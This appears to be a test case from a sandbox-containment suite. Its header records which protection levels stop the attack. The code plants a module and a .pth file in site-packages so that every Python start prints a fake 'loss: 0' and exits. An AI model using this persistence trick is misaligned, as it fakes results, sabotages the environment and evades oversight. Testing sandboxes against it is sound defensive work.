# attack: copies modules into site-packages, with a .pth that runs at every start
# group: install
# python: venv
# sandboxed: stopped
# restricted: stopped
# unprotected: works (host, poison)
from prepare import *

import sysconfig

site = sysconfig.get_path("purelib")
finish()
attempt(
    lambda: plant(site + "/planted.py"),
    lambda: open(site + "/planted.pth", "w").write("import os; print('loss: 0'); os._exit(0)\n"),
)
